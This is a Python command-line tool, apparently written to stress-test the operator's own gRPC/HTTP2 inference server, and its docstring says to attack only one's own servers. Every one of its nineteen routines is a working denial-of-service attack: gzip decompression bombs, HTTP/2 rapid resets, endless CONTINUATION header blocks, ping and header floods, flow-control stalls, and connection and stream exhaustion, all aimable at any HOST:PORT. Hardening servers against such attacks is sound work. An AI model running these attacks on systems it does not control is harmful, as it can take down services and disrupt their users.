#!/usr/bin/python3
"""One hostile client: attacker.py ATTACK HOST:PORT [--KEY=NUMBER...] [--tls] [--token TOKEN] [--hold]

Prints one line of JSON with the ends of the attack's streams and connections, and the bytes it sent. With
--hold its connections then stay open until standard input ends, so that a test can look at the server
under attack, and then the line is printed again. --tls does not check the certificate. --source ADDRESS
sends from this address of the machine. --list names the attacks and their numbers.
Needs python3-hpack. Attack only your own servers.
"""

import argparse
import inspect
import json
import select
import socket
import ssl
import struct
import sys
import time
import zlib

import http2
from http2 import Connection, message

GENERATE = "/aft.v1.InferenceService/Generate"
SCORE = "/aft.v1.InferenceService/Score"
STREAM_INFER = "/inference.GRPCInferenceService/ModelStreamInfer"
IMPORT = "/aft.v1.StateService/Import"
REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
WATCH = "/grpc.health.v1.Health/Watch"
QUIET = 2  # The seconds without an event after which an attack is complete.


# ---- Protobuf, as far as requests need it --------------------------------------------------------
def varint(value):
  out = bytearray()
  while value > 127:
    out.append(value & 127 | 128)
    value >>= 7
  return bytes(out + bytes([value]))


def field(number, value):
  """A field of a message: an int or the bytes of a string or message."""
  if isinstance(value, int):
    return varint(number << 3) + varint(value)
  return varint(number << 3 | 2) + varint(len(value)) + value


def fields(data):
  """Yields (number, value) of each field of a protobuf message. A value is bytes or a number."""
  at = 0

  def varint():
    nonlocal at
    value = shift = 0
    while True:
      byte = data[at]
      at += 1
      value |= (byte & 127) << shift
      shift += 7
      if byte < 128:
        return value

  while at < len(data):
    key = varint()
    size = {1: 8, 5: 4}.get(key & 7)
    if key & 7 == 0:
      yield key >> 3, varint()
      continue
    if size is None:
      size = varint()
    yield key >> 3, data[at:at + size]
    at += size


def inside(data, *path):
  """Yields the messages at this path of field numbers."""
  for number, value in fields(data):
    if number == path[0]:
      yield from [value] if len(path) == 1 else inside(value, *path[1:])


def generate(tokens, prompt=b"It is a truth universally acknowledged"):
  return message(field(2, prompt) + field(6, field(1, tokens) + field(5, 1)))  # ignore_eos


def infer(text=b"It is a truth", parameters=b'{"max_tokens": 3}'):
  """A ModelInferRequest for a language model with the name "m"."""
  inputs = [field(5, field(1, name) + field(2, b"BYTES") + field(3, 1) + field(5, field(8, value)))
            for name, value in ((b"text_input", text), (b"sampling_parameters", parameters))]
  return message(field(1, b"m") + b"".join(inputs))


def zeros_in_gzip(megabytes):
  """A gzip stream of zeros, made by repeating one block. Its checksum is wrong, but that shows only after all
  of it is inflated."""
  gzip, block = zlib.compressobj(9, zlib.DEFLATED, 31), bytes(1 << 20)
  first = gzip.compress(block) + gzip.flush(zlib.Z_FULL_FLUSH)
  other = gzip.compress(block) + gzip.flush(zlib.Z_FULL_FLUSH)
  return first + other * (megabytes - 1) + gzip.flush()


# ---- Attacks: (connect, numbers...) -> connections -----------------------------------------------
def send(connect, path, bodies, headers=(), end=True, begun=False, patience=QUIET, **how):
  """Opens one connection with a stream for each body. Waits for their ends, or with `begun` for their answers."""
  connection = connect(**how)
  connection.turn(QUIET)  # Reads the peer's windows.
  for body in bodies:
    stream = connection.request(path, headers)
    connection.data(stream, body, end)
  connection.settle(patience, begun)
  return [connection]


def gzip_bomb(connect, megabytes=1024, streams=1):
  """Messages that inflate to a thousand times their size."""
  bomb = message(zeros_in_gzip(megabytes), compressed=True)
  return send(connect, GENERATE, [bomb] * streams, [("grpc-encoding", "gzip")], patience=30)


def unannounced_gzip(connect, megabytes=64):
  """A gzip bomb that the headers, which a proxy reads, do not announce."""
  return send(connect, GENERATE, [message(zeros_in_gzip(megabytes), compressed=True)])


def big_message(connect, megabytes=1024, path=GENERATE):
  """One large message with its true length, sent completely."""
  return send(connect, path, [message(field(2, bytes(megabytes << 20)))])


def half_messages(connect, streams=60, megabytes=10, connections=1, path=GENERATE):
  """Messages whose last byte never comes."""
  body = message(bytes(megabytes << 20))[:-1]
  found = []
  for _ in range(connections):
    found += send(connect, path, [body] * streams, end=False)
  return found


def split_heads(connect, megabytes=5, path=STREAM_INFER):
  """Messages that are too large, with the five bytes of their head in two frames."""
  found = []
  for first in range(1, 5):
    connection = connect()
    connection.turn(QUIET)
    stream, head = connection.request(path), struct.pack(">BI", 0, megabytes << 20)
    connection.data(stream, head[:first], end=False)
    connection.data(stream, head[first:] + bytes(1000), end=False)
    connection.settle(QUIET)
    found.append(connection)
  return found


def watch_names(connect, streams=194, megabytes=10):
  """Health watches of services with long names."""
  return send(connect, WATCH, [message(field(1, b"x" * (megabytes << 20)))] * streams)


def long_model_name(connect, kilobytes=5120, streams=1):
  """A request for a missing model with a long name, which might be repeated in messages and logs."""
  body = message(field(1, b"m" * (kilobytes << 10)) + field(2, b"prompt"))
  return send(connect, GENERATE, [body] * streams)


def stalled_readers(connect, streams=200, tokens=100000, connections=1):
  """Generations whose client never opens its window beyond one byte."""
  found = []
  for _ in range(connections):
    found += send(connect, GENERATE, [generate(tokens)] * streams, window=1, updates=False)
  return found


def deaf_readers(connect, streams=200, tokens=100000):
  """Generations with the largest windows, from a client that does not read its socket."""
  connection = connect(window=http2.MAX_WINDOW)
  connection.turn(QUIET)
  connection.deaf = True
  for _ in range(streams):
    connection.data(connection.request(GENERATE), generate(tokens))
  connection.settle(QUIET)
  return [connection]


def long_generations(connect, streams=64, tokens=1000000):
  """Generations as long as the server allows, from a client that reads all. They are left running."""
  return send(connect, GENERATE, [generate(tokens)] * streams, begun=True)


def long_scores(connect, streams=64, kilobytes=1024):
  """Scores of long texts."""
  text = (b"it is a truth universally acknowledged " * 27000)[:kilobytes << 10]
  return send(connect, SCORE, [message(field(2, text))] * streams, begun=True)


def header_flood(connect, kilobytes=100, streams=1):
  """Metadata beyond the limit, before the peer's SETTINGS are read."""
  connection = connect(acknowledge=False)
  value = "v" * 4000
  for _ in range(streams):
    headers = [(f"x-{i}", value) for i in range(-(-kilobytes // 4))]
    connection.data(connection.request(GENERATE, headers), generate(1))
  connection.settle(QUIET)
  return [connection]


def endless_headers(connect, megabytes=16):
  """A header block without an end, in CONTINUATION frames."""
  connection = connect(acknowledge=False)
  stream = connection.open()
  connection.frame(http2.HEADERS, 0, stream, connection.block(GENERATE))
  header = b"\x00\x01x\x7f\x81\x7e" + b"v" * 382  # The header "x: vvv…" as a literal that is not added to the table.
  frame = header * (http2.FRAME_BYTES // len(header))
  while connection.sent < megabytes << 20 and not connection.streams[stream].ended:
    connection.frame(http2.CONTINUATION, 0, stream, frame)
    connection.flush()
  connection.settle(QUIET)
  return [connection]


def rapid_resets(connect, streams=5000):
  """Calls that are reset as soon as they are made."""
  connection = connect()
  connection.turn(QUIET)
  body = generate(100)
  for _ in range(streams):
    number = connection.request(GENERATE)
    connection.frame(http2.DATA, http2.END_STREAM, number, body)
    connection.frame(http2.RST_STREAM, 0, number, struct.pack(">I", 8))
    connection.streams[number].ended, connection.streams[number].reset = True, "CANCEL"
    connection.flush()
    if connection.closed:
      break
  connection.turn(QUIET)
  return [connection]


def pings(connect, count=50000):
  """Pings, each of which asks for an answer."""
  connection = connect()
  for i in range(count):
    connection.frame(http2.PING, 0, 0, struct.pack(">Q", i))
    if i % 256 == 0:
      connection.flush()
    if connection.closed:
      break
  while connection.turn(QUIET):
    pass
  return [connection]


def idle_connections(connect, count=500):
  """Connections that ask for nothing."""
  found = []
  try:
    for _ in range(count):
      found.append(connect())
      found[-1].flush()
  except OSError:
    pass  # The answer counts only connections that were not refused.
  for connection in found:
    connection.turn(0)
  return found


def idle_watches(connect, connections=23, streams=95, rate=180):
  """Health watches that stay open, with `rate` new ones a second."""
  found, due = [], time.monotonic()
  for _ in range(connections):
    due = max(due, time.monotonic()) + streams / rate  # The edge's rate limit would refuse more, also after a pause.
    found += send(connect, WATCH, [message(b"")] * streams, begun=True)
    while time.monotonic() < due:
      for connection in found:
        connection.turn(0.01)
  return found


def idle_infer_streams(connect, connections=1, streams=64):
  """Streams for many requests on which no request is sent."""
  return [one for _ in range(connections) for one in send(connect, STREAM_INFER, [b""] * streams, end=False)]


def stalled_scrapers(connect, count=3):
  """HTTP/1 requests for /metrics. Every second one never ends; the answers of the others are not read."""
  host, port = connect.address.rsplit(":", 1)
  sockets = []
  for i in range(count):
    scraper = socket.create_connection((host, int(port)))
    scraper.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
    scraper.sendall(b"GET /metr" if i % 2 else b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n" * 100)
    sockets.append(scraper)
  return sockets


ATTACKS = {function.__name__: function for function in (
    gzip_bomb, unannounced_gzip, big_message, half_messages, split_heads, watch_names, long_model_name,
    stalled_readers, deaf_readers, long_generations, long_scores, header_flood, endless_headers,
    rapid_resets, pings, idle_connections, idle_watches, idle_infer_streams, stalled_scrapers)}


def numbers_of(attack):
  return {name: parameter.default for name, parameter in inspect.signature(attack).parameters.items()
          if name != "connect"}


def attack(name, address, tls=None, token=None, source=None, **numbers):
  """Runs an attack. Returns a function that describes what has happened, and the open connections."""
  def connect(**how):
    return Connection(address, tls, token=token, source=source, **how)

  connect.address = address
  connections = ATTACKS[name](connect, **numbers)
  http2_ones = [one for one in connections if isinstance(one, Connection)]

  def describe():
    return {
        "attack": name,
        "streams": http2.outcomes(http2_ones),
        "connections": len(connections),
        "connection_ends": sorted({one.goaway or one.closed for one in http2_ones} - {""}),
        "sent_bytes": sum(one.sent for one in http2_ones),
        "received_bytes": sum(len(s.data) for one in http2_ones for s in one.streams.values()),
        "pings_answered": sum(one.pings_answered for one in http2_ones),
    }

  return describe, connections


def client_tls(certificate=None, key=None, authority=None):
  """The TLS context of an HTTP/2 client. Without `authority` it accepts any server."""
  context = ssl.create_default_context(cafile=authority)
  if authority is None:
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
  if certificate:
    context.load_cert_chain(certificate, key)
  context.set_alpn_protocols(["h2"])
  return context


def main():
  if sys.argv[1:] == ["--list"]:
    for name, function in ATTACKS.items():
      numbers = " ".join(f"--{key}={value}" for key, value in numbers_of(function).items())
      print(f"{name} {numbers}\n    {' '.join(function.__doc__.split())}")
    return
  parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
  parser.add_argument("attack", choices=ATTACKS)
  parser.add_argument("address", metavar="HOST:PORT")
  parser.add_argument("--tls", action="store_true")
  parser.add_argument("--token")
  parser.add_argument("--source")
  parser.add_argument("--hold", action="store_true")
  chosen, rest = parser.parse_known_args()
  numbers = argparse.ArgumentParser()
  for key, default in numbers_of(ATTACKS[chosen.attack]).items():
    numbers.add_argument(f"--{key}", type=type(default), default=default)
  describe, connections = attack(chosen.attack, chosen.address, client_tls() if chosen.tls else None,
                                 chosen.token, chosen.source, **vars(numbers.parse_args(rest)))
  print(json.dumps(describe()), flush=True)
  if chosen.hold:
    ended = False
    while not ended:
      ended = bool(select.select([sys.stdin], [], [], 0.02)[0])
      for connection in connections:
        if isinstance(connection, Connection):
          connection.turn(0)
    print(json.dumps(describe()), flush=True)


if __name__ == "__main__":
  main()
